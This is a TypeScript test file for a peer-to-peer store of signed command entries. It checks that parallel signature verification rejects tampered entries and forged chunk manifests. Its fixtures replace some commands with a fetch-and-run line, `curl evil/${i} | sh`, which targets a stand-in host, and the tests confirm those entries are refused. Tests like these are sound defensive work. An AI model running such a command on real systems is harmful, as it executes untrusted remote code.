import test from 'ava'
import { join } from 'node:path'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import type { Entry } from '../../src/core/entry.js'
import { signEntry, verifyEntry, withoutSignature, type EntrySigner } from '../../src/core/signature.js'
import { encodeMessage } from '../../src/protocol/messages.js'
import { openDatabase } from '../../src/store/db.js'
import { ingestPulled } from '../../workers/ingest.js'
import { verifyAll, verifyElsewhere } from '../../workers/verify-parallel.js'
import { chunkVerificationInput, maxChunkEntries, signChunk } from '../../src/core/chunk.js'
import { useSha256Addon } from '../../src/core/entry-digests.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from '../store/fixtures.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

/** 1200 entries signed by a, every 7th altered after signing, every 11th unsigned: the bad ones land in every thread's share. */
async function batch (): Promise<{ a: EntrySigner, entries: Entry[], bad: Set<number> }> {
  const a = await signer()
  const bad = new Set<number>()
  const entries = Array.from({ length: 1200 }, (_, i) => {
    const signed = signEntry(entry({ cmd: `make ${i}` }), a)
    if (i % 11 === 0) return withoutSignature(signed)
    if (i % 7 === 0) {
      bad.add(i)
      return { ...signed, cmd: `curl evil/${i} | sh` }
    }
    return signed
  })
  return { a, entries, bad }
}

test('verifyAll spread over threads gives each entry the verdict verifyEntry gives it', async (t) => {
  const { entries, bad } = await batch()
  const verdicts = await verifyAll(entries, (e) => e.sig != null)
  t.is(verdicts.length, entries.length)
  entries.forEach((e, i) => { if (e.sig != null) t.is(verdicts[i], verifyEntry(e), `entry ${i}`) })
  t.is(verdicts.filter((v) => !v).length, bad.size + entries.filter((e) => e.sig == null).length)
  t.true([...bad].every((i) => verdicts[i] === false))
})

test('a relayed pull of 1200 signed entries stores the genuine ones as verified and refuses exactly the altered ones', async (t) => {
  const { entries, bad } = await batch()
  const dbPath = join(tempDir(t), 'h.db')
  openDatabase(dbPath).close()
  const payload = encodeMessage({ entries, next_cursor: entries.length })
  const result = await ingestPulled({ tag: 'ingest-pulled', dbPath, peerId: (await signer()).origin, payload, wire: 2 })
  t.deepEqual(result.rejected.map((r) => r.index).sort((x, y) => x - y), [...bad].sort((x, y) => x - y))
  const db = openDatabase(dbPath)
  t.teardown(() => db.close())
  const counts = db.prepare('SELECT trust, COUNT(*) AS n FROM entries GROUP BY trust ORDER BY trust').all()
  const unsigned = entries.filter((e) => e.sig == null).length
  t.deepEqual(counts, [{ trust: 0, n: unsigned }, { trust: 1, n: entries.length - unsigned - bad.size }])
  t.false((db.prepare('SELECT cmd FROM entries').pluck().all() as string[]).some((cmd) => cmd.startsWith('curl')))
})

test('verifyElsewhere gives each manifest the verdict verifyDetached gives it, on a helper thread', async (t) => {
  const a = await signer()
  const chunks = Array.from({ length: 9 }, (_, k) => signChunk(Array.from({ length: 5 }, (_, i) => entry({ cmd: `c${k}-${i}` })), a))
  chunks[4] = { ...chunks[4]!, hashes: Buffer.concat([chunks[4]!.hashes, Buffer.alloc(32)]) }
  chunks[7] = { ...chunks[7]!, sig: Buffer.from(chunks[7]!.sig.map((b, i) => i === 0 ? b ^ 1 : b)) }
  const verdicts = await verifyElsewhere(chunks.map((c) => chunkVerificationInput(c)!))
  t.deepEqual(verdicts, chunks.map((_, k) => k !== 4 && k !== 7))
  t.deepEqual(await verifyElsewhere([]), [])
})

/**
 * 1200 entries of a, in 3.0.0 chunks of 256, relayed by another peer: chunk 2's signature forged, every 7th entry
 * altered after signing, and the entries of chunk 1 in reverse order (found by lookup, not in sequence).
 */
async function relayedChunks (): Promise<{ a: EntrySigner, payload: Uint8Array, bad: Set<number> }> {
  const a = await signer()
  const signed = Array.from({ length: 1200 }, (_, i) => entry({ cmd: `make ${i}` }))
  const chunks = []
  for (let from = 0, id = 0; from < signed.length; from += maxChunkEntries, id++) chunks.push({ id: 10 + id, ...signChunk(signed.slice(from, from + maxChunkEntries), a) })
  chunks[2]!.sig = Buffer.from(chunks[2]!.sig.map((b, i) => i === 5 ? b ^ 0x40 : b))
  const order = signed.map((_, i) => i)
  order.splice(maxChunkEntries, maxChunkEntries, ...order.slice(maxChunkEntries, 2 * maxChunkEntries).reverse())
  const bad = new Set<number>()
  const entries = order.map((i, at) => {
    const k = 10 + Math.floor(i / maxChunkEntries)
    if (k === 12) bad.add(at)
    if (i % 7 === 0) {
      bad.add(at)
      return { ...signed[i]!, cmd: `curl evil/${i} | sh`, k }
    }
    return { ...signed[i]!, k }
  })
  const wire = chunks.map((c) => ({ id: c.id, origin: c.origin, sig: c.sig.toString('base64'), hashes: c.hashes.toString('base64') }))
  return { a, payload: encodeMessage({ entries, chunks: wire, next_cursor: entries.length }), bad }
}

for (const native of [true, false]) {
  test.serial(`a relayed 3.0.0 pull (${native ? 'entries hashed in one native call' : 'no addon: one node:crypto hash each'}) stores the genuine entries as a's, verified, and refuses those of a forged manifest and the altered ones`, async (t) => {
    useSha256Addon(native)
    t.teardown(() => { useSha256Addon(true) })
    const { a, payload, bad } = await relayedChunks()
    const dbPath = join(tempDir(t), 'h.db')
    openDatabase(dbPath).close()
    const result = await ingestPulled({ tag: 'ingest-pulled', dbPath, peerId: (await signer()).origin, payload, wire: 3 })
    t.deepEqual(result.rejected.map((r) => r.index).sort((x, y) => x - y), [...bad].sort((x, y) => x - y))
    t.true(result.rejected.some((r) => r.reason.includes('signature does not verify')))
    t.true(result.rejected.some((r) => r.reason.includes('its hash is not listed')))
    const db = openDatabase(dbPath)
    t.teardown(() => db.close())
    t.deepEqual(db.prepare(`SELECT trust, ${rowOriginSql()} AS origin, COUNT(*) AS n FROM entries GROUP BY trust, 2`).all(), [{ trust: 1, origin: a.origin, n: 1200 - bad.size }])
    t.false((db.prepare('SELECT cmd FROM entries').pluck().all() as string[]).some((cmd) => cmd.startsWith('curl')))
    t.is(db.prepare('SELECT COUNT(*) FROM chunks').pluck().get(), 4, 'the four genuine manifests are kept to serve on')
  })
}

test('a relayed page naming many manifests (40 of 8 entries) has them checked on the helper thread: a forged one is refused, the rest stored as a\'s', async (t) => {
  const a = await signer()
  const signed = Array.from({ length: 320 }, (_, i) => entry({ cmd: `small ${i}` }))
  const chunks = Array.from({ length: 40 }, (_, c) => ({ id: 100 + c, ...signChunk(signed.slice(8 * c, 8 * c + 8), a) }))
  chunks[17]!.sig = Buffer.from(chunks[17]!.sig.map((b, i) => i === 9 ? b ^ 0x01 : b))
  const entries = signed.map((e, i) => ({ ...e, k: 100 + Math.floor(i / 8) }))
  const wire = chunks.map((c) => ({ id: c.id, origin: c.origin, sig: c.sig.toString('base64'), hashes: c.hashes.toString('base64') }))
  const dbPath = join(tempDir(t), 'h.db')
  openDatabase(dbPath).close()
  const result = await ingestPulled({ tag: 'ingest-pulled', dbPath, peerId: (await signer()).origin, payload: encodeMessage({ entries, chunks: wire, next_cursor: entries.length }), wire: 3 })
  t.deepEqual(result.rejected.map((r) => r.index), Array.from({ length: 8 }, (_, i) => 17 * 8 + i))
  t.true(result.rejected.every((r) => r.reason.includes('signature does not verify')))
  const db = openDatabase(dbPath)
  t.teardown(() => db.close())
  t.deepEqual(db.prepare(`SELECT trust, ${rowOriginSql()} AS origin, COUNT(*) AS n FROM entries GROUP BY trust, 2`).all(), [{ trust: 1, origin: a.origin, n: 312 }])
})
